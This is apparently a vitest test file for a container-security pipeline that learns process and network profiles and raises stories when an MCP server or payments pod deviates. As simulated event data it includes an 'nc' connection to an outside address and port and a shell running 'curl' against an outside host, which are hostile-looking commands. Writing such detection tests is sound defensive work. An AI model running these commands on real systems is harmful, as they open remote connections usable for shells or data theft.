/**
 * Profiles in the running pipeline: learned over the learning period from a realistic stream (an
 * hour of agent and MCP traffic), then deviations become signals in stories, with the profile as
 * evidence, and rows in CausewayProfiles_CL; Kubescape profiles imported as baselines flag what
 * they do not list from the first event.
 */
import { describe, expect, it } from 'vitest';
import { proc, tetragonConnect, tetragonExec, tetragonFile, pod } from '../../../src/demo/builders.ts';
import type { ScenarioInput } from '../../../src/demo/scenario.ts';
import { cast } from '../../../src/demo/scenarios.ts';
import { benignHour } from '../../scenario/scenarios.ts';
import { importKubescape } from '../../../src/profiles/kubescape.ts';
import { checkRow } from '../../helpers/checkRow.ts';
import { readFixture } from '../../helpers/fixtures.ts';
import { feed, finish, liveStories, newRun, testConfig } from '../../helpers/pipeline.ts';

const BASE = Date.parse('2026-11-20T10:00:00Z');
const line = (at: number, body: string): ScenarioInput => ({ at, input: 'tetragon', body: body + '\n' });

describe('profiles in the pipeline', () => {
  it('learns each container over the learning period, then an MCP server running nc and reaching a new address is a story citing the profile', async () => {
    const c = cast('aks-demo');
    const kbPython = proc(c.kbTools, 1, '/usr/local/bin/python3', '-m kb_tools.server', BASE - 3_600_000);
    const at = BASE + 40 * 60_000;
    const nc = proc(c.kbTools, 7001, '/usr/bin/nc', '198.51.100.99 4444', at, kbPython);
    const inputs = [
      ...benignHour('aks-demo', BASE),
      line(at, tetragonExec(nc)),
      line(at + 50, tetragonConnect(nc, at + 50, '198.51.100.99', 4444)),
    ];
    const run = await finish(await feed(newRun(), inputs));

    const rows = run.sink.rows('CausewayProfiles_CL');
    for (const r of rows) checkRow('CausewayProfiles_CL', r);
    const snapshots = rows.filter((r) => r.RecordType === 'snapshot');
    const kb = snapshots.find((r) => r.WorkloadName === 'kb-tools' && r.Container === 'mcp')!;
    expect(kb).toMatchObject({ ProfileStatus: 'complete', Source: 'learned' });
    // Ten minutes (the learning period) after the workload's first event.
    expect(kb.LearningEndsAt).toMatch(/^2026-11-20T10:10:/);
    expect(kb.Egress).toEqual([expect.objectContaining({ ip: '10.0.12.4', port: 5432, protocol: 'TCP' })]);
    const agent = snapshots.find((r) => r.WorkloadName === 'support-agent')!;
    expect(agent.Tools).toEqual(['get_order_status', 'search_kb']);
    expect(agent.ToolTransitions).toContain('search_kb→get_order_status');

    const deviations = rows.filter((r) => r.RecordType === 'deviation');
    expect(deviations.map((r) => [r.WorkloadName, r.DeviationKind, r.DeviationValue])).toEqual([
      ['kb-tools', 'new-executable', '/usr/bin/nc'],
      ['kb-tools', 'new-egress', '198.51.100.99:4444'],
    ]);

    const story = liveStories(run).find((s) => s.signals.some((x) => x.ruleId === 'CW-PROFILE-NEW-PROCESS-MCP'))!;
    expect(story.severity).toBe('Medium');
    expect(story.signals.map((s) => s.ruleId)).toEqual(
      expect.arrayContaining(['CW-PROFILE-NEW-PROCESS-MCP', 'CW-PROFILE-NEW-EGRESS']),
    );
    const reason = story.signals.find((s) => s.ruleId === 'CW-PROFILE-NEW-PROCESS-MCP')!.reason;
    expect(reason).toMatch(
      /new-executable \/usr\/bin\/nc: not in the profile learned 10:00:\d\d–10:10:\d\d from \d+ events; executables: \/usr\/local\/bin\/python3\)/,
    );
    expect(story.entities.ips).toContain('198.51.100.99');
    // The benign hour itself: nothing outside the profiles.
    expect(
      liveStories(run).filter((s) => s !== story && s.signals.some((x) => x.ruleId.startsWith('CW-PROFILE'))),
    ).toEqual([]);
  });

  it('a Kubescape ApplicationProfile imported as the baseline flags a shell from the first event; listed executables and egress pass', async () => {
    const baselines = [
      ...importKubescape(readFixture('kubescape-profiles/ap-payments-api.yaml').toString(), 'ap', 'aks-demo'),
      ...importKubescape(readFixture('kubescape-profiles/nn-payments-api.yaml').toString(), 'nn', 'aks-demo'),
    ];
    const api = pod('aks-demo', 'payments', 'payments-api', 0, { container: 'api' });
    const node = proc(api, 1, '/usr/local/bin/node', '/app/dist/server.js', BASE);
    const sh = proc(api, 200, '/bin/sh', '-c "curl http://198.51.100.7:8888/x"', BASE + 60_000, node);
    const inputs = [
      line(BASE, tetragonExec(node)),
      line(BASE + 1000, tetragonFile(node, BASE + 1000, '/app/dist/server.js')),
      line(BASE + 60_000, tetragonExec(sh)),
    ];
    const run = await finish(await feed(newRun(testConfig(), baselines), inputs));
    const stories = liveStories(run);
    expect(stories).toHaveLength(1);
    const signal = stories[0]!.signals.find((s) => s.ruleId === 'CW-PROFILE-NEW-PROCESS')!;
    expect(signal.reason).toMatch(
      /\/bin\/sh: not in the imported profile \(kubescape ApplicationProfile payments\/replicaset-payments-api-6f8d9c7b5d/,
    );
    expect(stories[0]!.severity).toBe('Medium');
    const deviations = run.sink.rows('CausewayProfiles_CL').filter((r) => r.RecordType === 'deviation');
    expect(deviations.map((r) => [r.DeviationKind, r.DeviationValue, r.ProfileStatus])).toEqual([
      ['new-executable', '/bin/sh', 'imported'],
    ]);
  });
});
